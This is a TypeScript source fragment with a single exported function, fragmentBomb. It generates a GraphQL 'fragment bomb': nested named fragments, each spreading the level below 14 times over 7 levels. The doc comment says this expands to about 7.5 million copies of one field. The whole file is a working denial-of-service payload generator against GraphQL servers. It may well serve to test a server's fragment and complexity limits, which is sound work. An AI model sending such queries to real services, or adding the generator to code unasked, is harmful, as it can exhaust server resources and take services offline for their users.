/** Fragments F2..F`levels`, each spreading the one below `width` times; F1 selects `leaf`. 14 wide and 7 deep expand to 14^6 (7.5 million) copies of F1. */
export function fragmentBomb(leaf: string, width = 14, levels = 7): string {
  const defs = [`fragment F1 on Query { ${leaf} }`];
  for (let i = 2; i <= levels; i++) defs.push(`fragment F${i} on Query { ${Array.from({ length: width }, () => `...F${i - 1}`).join(' ')} }`);
  return `query Q { ...F${levels} } ${defs.join(' ')}`;
}
